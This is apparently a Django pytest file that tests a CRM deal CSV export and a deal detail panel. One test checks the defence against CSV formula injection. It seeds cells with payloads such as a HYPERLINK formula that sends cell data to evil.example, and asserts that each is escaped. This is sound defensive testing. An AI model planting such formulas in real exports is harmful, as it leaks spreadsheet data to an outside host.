"""The CSV export and the deal panel."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from dealflow.models import DealStatus, StageChange
from tests.dealflow import factories as make

pytestmark = pytest.mark.django_db


def read_csv(response):
    assert response["Content-Type"] == "text/csv"
    assert response["Content-Disposition"].startswith('attachment; filename="dealflow-')
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_csv_has_one_row_per_deal_on_the_filtered_board(client, staff, coeo, nordic):
    offer = make.deal(
        coeo.stages.proposal,
        "Offer to Acme",
        value=200000,
        organization=coeo.acme,
        person=coeo.erik,
        owner=coeo.anna,
        stage_change_time=timezone.now() - timedelta(days=3),
    )
    won = make.deal(coeo.stages.lead, "Won deal", value=50, status=DealStatus.WON, won_time=timezone.now())
    make.deal(coeo.stages.won, "Verbal yes", update_time=timezone.now() - timedelta(days=2))
    make.deal(coeo.stages.nej_tack, "Excluded deal")
    make.deal(coeo.stages.lead, "Lost deal", status=DealStatus.LOST)
    make.deal(coeo.stages.no_mapping, "Unmapped deal")
    make.deal(nordic.lead, "Nordic deal", currency="EUR")
    client.force_login(staff)

    rows = read_csv(client.get(reverse("dealflow:company_export", args=[coeo.company.slug])))

    assert [row["title"] for row in rows] == ["Offer to Acme", "Won deal", "Verbal yes", "Unmapped deal"]
    assert rows[0] == {
        "company": "Coeo",
        "column": "Proposal",
        "stage": "Offert",
        "title": "Offer to Acme",
        "organization": "Acme AB",
        "person": "Erik Eriksson",
        "owner": "Anna Andersson",
        "value": "200000.00",
        "currency": "SEK",
        "weighted_value": "160000.00",
        "days_in_stage": "3",
        "pipedrive_url": f"https://coeo.pipedrive.com/deal/{offer.remote_id}",
    }
    assert rows[1]["column"] == "Closed Won" and rows[1]["weighted_value"] == "50.00"
    assert rows[1]["pipedrive_url"] == f"https://coeo.pipedrive.com/deal/{won.remote_id}"
    assert rows[2]["column"] == "Closed Won"  # an open deal in a stage mapped to Closed Won
    assert rows[3]["column"] == "Unmapped"


def test_csv_defuses_text_that_a_spreadsheet_would_run_as_a_formula(client, staff, coeo):
    """OWASP CSV injection: text cells starting with = + - @ tab or CR get a leading quote."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    make.deal(
        coeo.stages.lead,
        formula,
        value=-250,
        organization=make.organization(coeo.integration, "+46 Holding"),
        person=make.person(coeo.integration, "@mallory"),
        owner=make.owner(coeo.integration, "-Eve", email="eve@example.com"),
    )
    make.deal(coeo.stages.qualified, "\tTabbed", organization=make.organization(coeo.integration, "\rReturn AB"))
    coeo.stages.lead.name = "=1+1"
    coeo.stages.lead.save()
    client.force_login(staff)

    rows = read_csv(client.get(reverse("dealflow:company_export", args=[coeo.company.slug])))

    assert {key: rows[0][key] for key in ("stage", "title", "organization", "person", "owner")} == {
        "stage": "'=1+1",
        "title": "'" + formula,
        "organization": "'+46 Holding",
        "person": "'@mallory",
        "owner": "'-Eve",
    }
    assert rows[0]["value"] == "-250.00" and rows[0]["weighted_value"] == "-25.00"  # numbers stay numbers
    assert rows[1]["title"] == "'\tTabbed" and rows[1]["organization"] == "'\rReturn AB"
    assert rows[1]["person"] == "" and rows[1]["company"] == "Coeo"


def test_csv_follows_filters_and_spans_companies(client, staff, coeo, nordic):
    make.deal(coeo.stages.lead, "Swedish lead")
    make.deal(nordic.lead, "Nordic lead", currency="EUR")
    client.force_login(staff)

    everything = read_csv(client.get(reverse("dealflow:export")))
    filtered = read_csv(client.get(reverse("dealflow:export"), {"q": "nordic"}))

    assert sorted((row["company"], row["title"]) for row in everything) == [
        ("Coeo", "Swedish lead"),
        ("Nordic Tools", "Nordic lead"),
    ]
    assert [row["title"] for row in filtered] == ["Nordic lead"]


@pytest.fixture
def full_deal(coeo):
    found = make.deal(
        coeo.stages.proposal,
        "Offer to Acme",
        value=120000,
        organization=coeo.acme,
        person=coeo.erik,
        owner=coeo.anna,
        custom_fields={"Lead source": "Referral", "Budget": {"value": 5000, "currency": "SEK"}},
    )
    StageChange.objects.create(
        deal=found, from_stage=coeo.stages.lead, to_stage=coeo.stages.proposal, changed_at=timezone.now()
    )
    return found


def test_panel_shows_every_detail(client, viewer, coeo, full_deal):
    client.force_login(viewer)

    response = client.get(
        reverse("dealflow:deal", args=[coeo.company.slug, full_deal.pk]), headers={"HX-Request": "true"}
    )

    html = response.content.decode()
    assert "<html" not in html  # a partial for the side panel
    for expected in (
        "Offer to Acme",
        "120\u00a0000\u00a0kr",
        "Acme AB",
        "Storgatan 1, Stockholm",
        "Erik Eriksson",
        "erik@acme.example",
        "+46 70 123 45 67",
        "Anna Andersson",
        "anna@example.com",
        "Lead source",
        "Referral",
        "5\u00a0000\u00a0kr",
        "Lead - ännu ej kontaktade → Offert",
        f'href="https://coeo.pipedrive.com/deal/{full_deal.remote_id}"',
        "Open in Pipedrive",
    ):
        assert expected in html, expected


def test_panel_has_a_page_of_its_own(client, viewer, coeo, full_deal):
    client.force_login(viewer)

    response = client.get(reverse("dealflow:deal", args=[coeo.company.slug, full_deal.pk]))

    html = response.content.decode()
    assert "<html" in html and "Offer to Acme" in html and "Open in Pipedrive" in html
